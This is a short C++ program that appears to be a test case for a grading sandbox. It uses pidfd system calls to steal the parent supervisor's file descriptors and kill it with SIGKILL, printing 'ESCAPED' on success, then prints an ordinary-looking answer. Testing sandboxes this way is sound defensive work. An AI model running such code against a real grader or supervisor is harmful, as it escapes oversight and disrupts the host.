// Tries: to kill the supervisor through a pidfd, and to take its descriptors. Outcome: graded.
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdio>

int main() {
    const pid_t parent = getppid();
    const int handle = static_cast<int>(syscall(SYS_pidfd_open, parent, 0));
    if (handle >= 0) {
        for (int fd = 0; fd < 16; ++fd) {
            if (syscall(SYS_pidfd_getfd, handle, fd, 0) >= 0)
                std::printf("ESCAPED: has the parent's descriptor %d\n", fd);
        }
        syscall(SYS_pidfd_send_signal, handle, SIGKILL, nullptr, 0);
        usleep(100000);
        if (getppid() != parent) std::puts("ESCAPED: the supervisor is gone");
    }
    std::puts("Question 1\nP_VCS = (0.00, 0.00, -2.00)");
}
